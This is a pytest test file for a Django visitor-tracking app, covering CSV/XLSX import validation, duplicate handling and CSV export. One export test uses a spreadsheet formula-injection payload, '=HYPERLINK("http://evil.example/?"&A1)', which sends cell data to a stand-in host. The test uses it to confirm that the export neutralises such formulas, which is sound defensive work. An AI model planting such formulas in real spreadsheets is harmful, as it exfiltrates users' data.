"""Importing past visits (all or nothing, every faulty line named) and exporting them."""

import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from allervers.core.roles import Role
from allervers.core.spreadsheets import spreadsheet_cell, spreadsheet_typed
from allervers.planning.enums import StopStatus
from allervers.reception.enums import VisitChangeKind, VisitSource
from allervers.reception.forms import VisitForm
from allervers.reception.importing import ImportRefused, visits_check
from allervers.reception.models import Visit, VisitChange
from allervers.reception.services.imports import visits_import
from tests.html import text_of, without_cell_labels
from tests.partners.factories import PartnerFactory
from tests.planning.factories import SiteFactory, StopFactory, VehicleFactory
from tests.reception.factories import TopicFactory

pytestmark = pytest.mark.django_db

HEADER = [
    "date", "heure_arrivee", "heure_depart", "lieu", "genre", "age", "quartier", "situation",
    "thematiques", "partenaires", "venue", "connu_par", "premiere_visite", "cyber",
    "usage_cyber", "suite", "note",
]  # fmt: skip
SAMPLES = Path(settings.BASE_DIR) / "docs" / "samples"


@pytest.fixture
def site(operator):
    return SiteFactory(operator=operator, name="Place du Regain", slug="place-du-regain")


@pytest.fixture
def past_stops(operator, site):
    first = datetime.date(2025, 3, 3)
    return [
        StopFactory(operator=operator, site=site, date=first + datetime.timedelta(weeks=week))
        for week in range(10)
    ]


def _line(stop, index: int, **overrides) -> list[str]:
    values = {
        "date": f"{stop.date:%d/%m/%Y}",
        "heure_arrivee": f"{9 + index % 3:02d}:{(index * 7) % 60:02d}",
        "heure_depart": f"{10 + index % 3:02d}:{(index * 7) % 60:02d}",
        "lieu": stop.site.name,
        "genre": ["Femme", "Homme", "non renseigné"][index % 3],
        "age": ["26 à 49 ans", "65+", ""][index % 3],
        "quartier": ["Oui", "Non", ""][index % 3],
        "situation": "Demandeur d'emploi",
        "thematiques": "Démarches administratives liées à l'emploi | caf" if index % 2 else "RSA",
        "partenaires": "",
        "venue": "Sans rendez-vous",
        "connu_par": "Bouche-à-oreille",
        "premiere_visite": "Oui",
        "cyber": "Oui" if index % 4 == 0 else "",
        "usage_cyber": "",
        "suite": "Information donnée",
        "note": "",
    }
    values.update(overrides)
    return [values[column] for column in HEADER]


def _csv(rows: list[list[str]], header=HEADER, delimiter=";") -> bytes:
    stream = io.StringIO()
    writer = csv.writer(stream, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return stream.getvalue().encode("utf-8")


def _five_hundred(stops, bad_index=None, **bad) -> bytes:
    rows = []
    for index in range(500):
        overrides = bad if index == bad_index else {}
        rows.append(_line(stops[index % len(stops)], index, **overrides))
    return _csv(rows)


def test_one_bad_line_among_500_imports_nothing_and_is_named(operator, agent, topics, past_stops):
    content = _five_hundred(past_stops, bad_index=249, genre="fille")
    report = visits_check(operator=operator, name="visites.csv", content=content)
    assert report.line_errors == [
        (
            251,
            "Genre « fille » inconnu (valeurs possibles : Femme, Homme, Autre, Non renseigné).",
        )
    ]
    with pytest.raises(ImportRefused):
        visits_import(operator=operator, user=agent, name="visites.csv", content=content)
    assert not Visit.objects.exists()

    corrected = _five_hundred(past_stops)
    count = visits_import(operator=operator, user=agent, name="visites.csv", content=corrected)
    assert count == 500
    assert Visit.objects.filter(operator=operator, source=VisitSource.IMPORTED).count() == 500
    assert VisitChange.objects.filter(kind=VisitChangeKind.IMPORTED).count() == 500
    visit = Visit.objects.filter(topics__slug="caf").first()
    assert set(visit.topics.values_list("slug", flat=True)) == {"emploi", "caf"}
    assert visit.duration_minutes == 60


def test_the_dry_run_then_import_through_the_page(client, agent, topics, past_stops):
    client.force_login(agent)
    url = reverse("reception:visit_import")
    bad = _five_hundred(past_stops, bad_index=9, date="31/02/2025")
    response = client.post(url, {"file": SimpleUploadedFile("visites.csv", bad)})
    page = text_of(response)
    assert "1 ligne en erreur sur 500 : rien n'a été enregistré" in page
    assert "Date « 31/02/2025 » invalide (attendu JJ/MM/AAAA)." in page
    assert '<td data-label="Ligne">11</td>' in page
    refused = client.post(url, {"action": "confirm"}, follow=True)
    assert "Aucun fichier vérifié" in text_of(refused)
    assert not Visit.objects.exists()

    good = _five_hundred(past_stops)
    response = client.post(url, {"file": SimpleUploadedFile("visites.csv", good)})
    assert "500 visites prêtes à importer" in text_of(response)
    assert not Visit.objects.exists()  # the dry run writes nothing
    response = client.post(url, {"action": "confirm"}, follow=True)
    assert "500 visites importées." in text_of(response)
    assert Visit.objects.count() == 500


def test_an_xlsx_file_is_imported(operator, agent, topics, past_stops):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    stop = past_stops[0]
    row = _line(stop, 1)
    row[0] = datetime.datetime.combine(stop.date, datetime.time())
    row[1] = datetime.time(9, 30)
    row[2] = datetime.time(10, 15)
    sheet.append([value or None for value in row])
    stream = io.BytesIO()
    workbook.save(stream)
    count = visits_import(
        operator=operator, user=agent, name="visites.xlsx", content=stream.getvalue()
    )
    assert count == 1
    assert Visit.objects.get().duration_minutes == 45


@pytest.mark.parametrize("name", ["visites-exemple.csv", "visites-exemple.xlsx"])
def test_the_documented_samples_import(operator, agent, topics, site, name):
    jules_ferry = SiteFactory(
        operator=operator, name="Parking de l'école Jules Ferry", slug="ecole-jules-ferry"
    )
    stade = SiteFactory(
        operator=operator, name="City stade de la rue Pasteur", slug="city-stade-pasteur"
    )
    StopFactory(operator=operator, site=site, date=datetime.date(2025, 3, 10))
    StopFactory(
        operator=operator,
        site=jules_ferry,
        date=datetime.date(2025, 3, 12),
        start_time=datetime.time(14),
        end_time=datetime.time(17),
    )
    StopFactory(operator=operator, site=stade, date=datetime.date(2025, 3, 13))
    PartnerFactory(operator=operator, name="Département du Pas-de-Calais", slug="departement")
    PartnerFactory(operator=operator, name="Mission locale", slug="mission-locale")
    content = (SAMPLES / name).read_bytes()
    report = visits_check(operator=operator, name=name, content=content)
    assert report.line_errors == [] and report.file_errors == []
    assert visits_import(operator=operator, user=agent, name=name, content=content) == 5


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("visites.csv", b"", "Le fichier est vide."),
        ("visites.csv", b"\n\n", "Le fichier est vide."),
        ("visites.csv", _csv([]), "aucune visite (seulement l'en-tête)"),
        ("image.png", b"\x89PNG\r\n\x1a\n\x00\x00", "Format non pris en charge"),
        ("visites.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00", "n'est pas un fichier CSV lisible"),
        ("visites.xlsx", b"ceci n'est pas un classeur", "n'est pas un classeur XLSX lisible"),
        ("visites.csv", b"nom;prenom\nDupont;Jean\n", "colonnes obligatoires manquantes"),
        (
            "visites.csv",
            _csv([], header=[*HEADER, "telephone"]),
            "colonnes inconnues : telephone",
        ),
    ],
)
def test_a_malformed_file_is_refused_in_french_and_nothing_is_saved(
    operator, agent, name, content, message
):
    report = visits_check(operator=operator, name=name, content=content)
    assert not report.is_valid
    assert message in " ".join(report.file_errors)
    with pytest.raises(ImportRefused):
        visits_import(operator=operator, user=agent, name=name, content=content)
    assert not Visit.objects.exists()


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"date": "2025-13-40"}, "Date « 2025-13-40 » invalide"),
        ({"heure_arrivee": "9h99"}, "Heure d'arrivée « 9h99 » invalide"),
        ({"heure_depart": "08:00"}, "L'heure de départ est avant l'heure d'arrivée"),
        ({"lieu": "Lune"}, "Lieu « Lune » inconnu"),
        ({"thematiques": "Astrologie"}, "Thématique « Astrologie » inconnue"),
        ({"partenaires": "Inconnu SA"}, "Partenaire « Inconnu SA » inconnu"),
        ({"suite": "Peut-être"}, "Suite « Peut-être » inconnu"),
        ({"date": "01/01/2099"}, "la date 01/01/2099 est dans le futur"),
        ({"date": "10/06/2026"}, "Aucune permanence du bus le 10/06/2026"),  # today
    ],
)
def test_each_faulty_line_gets_its_reason(operator, topics, past_stops, overrides, message):
    content = _csv([_line(past_stops[0], 1), _line(past_stops[0], 2, **overrides)])
    report = visits_check(operator=operator, name="v.csv", content=content)
    assert len(report.line_errors) == 1
    line, reason = report.line_errors[0]
    assert line == 3
    assert message.lower() in reason.lower()


def test_a_cancelled_stop_is_refused(operator, topics, past_stops):
    stop = past_stops[0]
    stop.status = StopStatus.CANCELLED
    stop.cancel_reason = "weather"
    stop.save()
    report = visits_check(operator=operator, name="v.csv", content=_csv([_line(stop, 1)]))
    assert "est annulée" in report.line_errors[0][1]


def test_the_export_is_one_row_per_visit_and_reads_back(
    client, operator, coordinator, agent, topics, past_stops
):
    visits_import(
        operator=operator,
        user=agent,
        name="v.csv",
        content=_csv([_line(past_stops[i % 10], i) for i in range(12)]),
    )
    client.force_login(coordinator)
    response = client.get(reverse("reception:visit_export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["identifiant", "date", "heure_arrivee"]
    assert len(rows) == 13
    assert {row[rows[0].index("duree_minutes")] for row in rows[1:]} == {"60"}
    # The export is read back by the import (its extra columns are ignored): every line is
    # understood, and known as a visit already recorded.
    report = visits_check(operator=operator, name="export.csv", content=body)
    assert not report.line_errors and len(report.duplicates) == 12 and not report.rows


def test_the_export_neutralises_formulas_and_reads_back(
    client, operator, coordinator, agent, topics, past_stops
):
    """A note, a site, a topic or a partner starting with = + - @ would run as a formula in a
    spreadsheet: it comes out with a leading apostrophe, and the import takes it off again."""
    site = SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
    stop = StopFactory(operator=operator, site=site, date=past_stops[0].date)
    TopicFactory(operator=operator, name="@SUM(1+1)", slug="somme")
    PartnerFactory(operator=operator, name="+1", slug="plus-un")
    note = '=HYPERLINK("http://evil.example/?"&A1)'
    lines = [
        _line(stop, 1, note=note, thematiques="@SUM(1+1)", partenaires="+1"),
        _line(past_stops[1], 2, note="- CAF"),
    ]
    visits_import(operator=operator, user=agent, name="v.csv", content=_csv(lines))
    client.force_login(coordinator)
    body = client.get(reverse("reception:visit_export")).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    cells = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [row["note"] for row in cells] == ["'" + note, "'- CAF"]
    assert cells[0]["lieu"] == "'" + site.name
    assert cells[0]["thematiques"] == "'@SUM(1+1)"
    assert cells[0]["partenaires"] == "'+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    report = visits_check(operator=operator, name="export.csv", content=body)
    assert not report.line_errors and not report.rows
    assert [row.answers["note"] for row in report.duplicates] == [note, "- CAF"]
    assert [row.stop for row in report.duplicates] == [stop, past_stops[1]]


def test_the_export_is_for_the_coordinator_only(client, operator, make_member):
    client.force_login(make_member(operator, Role.AGENT))
    assert client.get(reverse("reception:visit_export")).status_code == 403


def test_an_archived_partner_is_refused_as_the_form_refuses_it(
    client, operator, agent, topics, past_stops
):
    archived = PartnerFactory(operator=operator, name="Ancien partenaire", is_archived=True)
    report = visits_check(
        operator=operator,
        name="v.csv",
        content=_csv([_line(past_stops[0], 1, partenaires=archived.name)]),
    )
    assert not report.is_valid
    assert "« Ancien partenaire » est archivé" in report.line_errors[0][1]
    # The tablet form does not offer it either (and its service refuses it).
    form = VisitForm(operator=operator, now=timezone.now())
    assert archived not in form.fields["partners_seen"].queryset


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 3 21", "'+33 3 21"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("CAF", "CAF"),
        ("'=1", "'=1"),  # already neutral
        (-5, -5),  # numbers stay numbers
        (2.5, 2.5),
        (None, None),
    ],
)
def test_one_rule_makes_a_cell_neutral_and_the_import_reads_it_back(value, cell):
    assert spreadsheet_cell(value) == cell
    if isinstance(value, str) and value != "'=1":
        assert spreadsheet_typed(spreadsheet_cell(value)) == value


# --- Imports that cannot double-count -------------------------------------------------------


def test_the_same_file_imported_twice_is_refused_the_second_time(
    operator, agent, topics, past_stops
):
    content = _csv([_line(past_stops[i % 10], i) for i in range(12)])
    assert visits_import(operator=operator, user=agent, name="v.csv", content=content) == 12
    report = visits_check(operator=operator, name="v.csv", content=content)
    assert not report.is_valid
    assert report.file_errors == [
        "Toutes les visites de ce fichier sont déjà enregistrées (même permanence, mêmes "
        "heures, mêmes réponses) : rien n'a été importé."
    ]
    assert len(report.duplicates) == 12
    with pytest.raises(ImportRefused):
        visits_import(
            operator=operator, user=agent, name="v.csv", content=content, skip_duplicates=True
        )
    assert Visit.objects.count() == 12


def test_rows_already_recorded_are_listed_and_skipped_only_once_confirmed(
    client, operator, agent, topics, past_stops
):
    old = [_line(past_stops[0], 1), _line(past_stops[1], 2)]
    visits_import(operator=operator, user=agent, name="v.csv", content=_csv(old))
    # The same file grown by a new visit, and by a second visit identical to a recorded one
    # (two people alike at the same minute: counted, so one of them is new).
    grown = _csv([*old, _line(past_stops[2], 3), _line(past_stops[0], 1)])
    client.force_login(agent)
    url = reverse("reception:visit_import")
    page = text_of(client.post(url, {"file": SimpleUploadedFile("v.csv", grown)}))
    assert "2 visites prêtes à importer" in page
    assert "Visites déjà enregistrées (2)" in page
    assert "Ignorer les visites déjà enregistrées" in page
    refused = client.post(url, {"action": "confirm"})
    assert refused.status_code == 400  # an invalid form: the box it needs is not ticked
    assert "cochez « Ignorer les visites déjà enregistrées »" in text_of(refused)
    assert Visit.objects.count() == 2
    response = client.post(url, {"action": "confirm", "skip_duplicates": "on"}, follow=True)
    assert "2 visites importées" in text_of(response)
    assert Visit.objects.count() == 4
    assert Visit.objects.filter(stop=past_stops[0]).count() == 2


def test_a_past_year_without_its_stops_offers_to_create_them(client, operator, agent, topics, site):
    VehicleFactory(operator=operator, name="Bus 1")
    lines = [
        [f"{day}/03/2024", arrival, departure, site.name]
        for day, arrival, departure in [
            ("05", "09:40", "10:25"),
            ("05", "11:10", ""),
            ("12", "14:05", "14:30"),
        ]
    ]
    content = _csv(lines, header=["date", "heure_arrivee", "heure_depart", "lieu"])
    report = visits_check(operator=operator, name="v.csv", content=content)
    assert report.is_valid, (report.file_errors, report.line_errors)
    assert [
        (m.date, m.site, m.start_time, m.end_time, m.visit_count) for m in report.missing_stops
    ] == [
        (datetime.date(2024, 3, 5), site, datetime.time(9), datetime.time(12), 2),
        (datetime.date(2024, 3, 12), site, datetime.time(14), datetime.time(15), 1),
    ]
    client.force_login(agent)
    url = reverse("reception:visit_import")
    page = text_of(client.post(url, {"file": SimpleUploadedFile("v.csv", content)}))
    assert "Permanences à créer (2)" in page
    page = without_cell_labels(page)
    cells = "</td><td>"
    assert cells.join(["05/03/2024", "Place du Regain", "09:00–12:00", "Bus 1", "2"]) in page
    assert cells.join(["12/03/2024", "Place du Regain", "14:00–15:00", "Bus 1", "1"]) in page
    refused = client.post(url, {"action": "confirm"})
    assert refused.status_code == 400
    assert "cochez « Créer les permanences listées »" in text_of(refused)
    assert not Visit.objects.exists()
    assert not site.stops.filter(date__year=2024).exists()
    response = client.post(url, {"action": "confirm", "create_stops": "on"}, follow=True)
    assert "3 visites importées" in text_of(response)
    stops = list(site.stops.filter(date__year=2024).order_by("date"))
    assert [(s.start_time, s.end_time, s.status, s.pattern) for s in stops] == [
        (datetime.time(9), datetime.time(12), StopStatus.HELD, None),
        (datetime.time(14), datetime.time(15), StopStatus.HELD, None),
    ]
    assert [v.stop for v in Visit.objects.order_by("arrived_at")] == [stops[0], stops[0], stops[1]]


def test_a_stop_to_create_that_the_bus_could_not_hold_is_refused(
    operator, agent, topics, past_stops
):
    other_site = SiteFactory(operator=operator, name="Stade Delaune", slug="stade")
    busy = past_stops[0]  # the same bus is elsewhere that morning
    content = _csv(
        [[f"{busy.date:%d/%m/%Y}", "09:30", "", other_site.name]],
        header=["date", "heure_arrivee", "heure_depart", "lieu"],
    )
    report = visits_check(operator=operator, name="v.csv", content=content)
    assert not report.is_valid
    assert "chevauche une autre permanence du bus" in report.file_errors[0]
